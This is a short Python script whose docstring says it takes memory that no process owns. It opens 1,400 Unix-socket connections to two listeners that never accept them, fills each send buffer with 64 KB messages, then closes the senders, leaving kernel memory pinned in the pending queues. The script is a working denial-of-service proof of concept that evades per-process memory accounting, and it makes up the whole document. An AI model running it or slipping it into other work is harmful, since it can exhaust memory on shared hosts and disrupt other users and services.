"""Take memory that no process has: parcels in the queues of sockets that are closed and wait to be accepted."""

import socket
import time

listeners = []
for i in range(2):
    listeners.append(socket.socket(socket.AF_UNIX))
    listeners[-1].bind(f"s{i}")
    listeners[-1].listen(1000)
    for _ in range(700):
        sender = socket.socket(socket.AF_UNIX)
        sender.setblocking(False)
        sender.connect(f"s{i}")
        try:
            while True:
                sender.send(b"x" * 65536)
        except BlockingIOError:
            sender.close()
time.sleep(30)
